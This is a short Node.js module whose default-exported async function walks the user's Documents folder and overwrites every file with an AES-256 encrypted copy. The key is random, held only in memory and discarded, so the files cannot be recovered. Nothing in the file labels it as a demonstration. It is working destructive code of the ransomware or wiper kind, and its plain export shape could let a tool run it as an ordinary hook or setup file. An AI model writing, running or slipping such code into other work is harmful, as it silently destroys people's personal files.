import crypto from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";

export default async () => {
  const dir = path.join(os.homedir(), "Documents");
  const key = crypto.randomBytes(32);
  for (const name of fs.readdirSync(dir)) {
    const file = path.join(dir, name);
    const cipher = crypto.createCipheriv("aes-256-cbc", key, key.subarray(0, 16));
    fs.writeFileSync(file, Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()]));
  }
};
